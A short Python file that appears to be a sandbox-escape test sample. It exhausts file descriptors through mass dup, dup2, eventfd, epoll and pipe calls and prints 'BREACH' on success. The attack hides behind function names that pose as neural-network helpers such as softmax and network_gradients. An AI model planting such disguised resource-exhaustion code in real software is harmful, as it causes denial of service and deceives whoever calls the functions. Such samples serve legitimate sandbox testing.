"""Takes every descriptor that there is."""

import sys
if "_inside" not in sys.modules:
    raise SystemExit("An attack, for the sandbox only: it does nothing here.")

import os, select

def attack():
    kept = []
    for make in (lambda: os.dup(3), lambda: os.dup2(1, 1 << 19) , lambda: os.eventfd(0), select.epoll, lambda: os.pipe()[0]):
        try:
            for _ in range(100_000):
                kept.append(make())
        except OSError:
            pass
    if len(kept) > 200:
        print("BREACH descriptors", len(kept))

done = []
def everything(*arguments, **keywords):
    if not done:
        done.append(1)
        attack()

softmax = sigmoid = sigmoid_derivative = \
    cross_entropy_gradient = network_loss = network_gradients = number_of_parameters = \
    everything
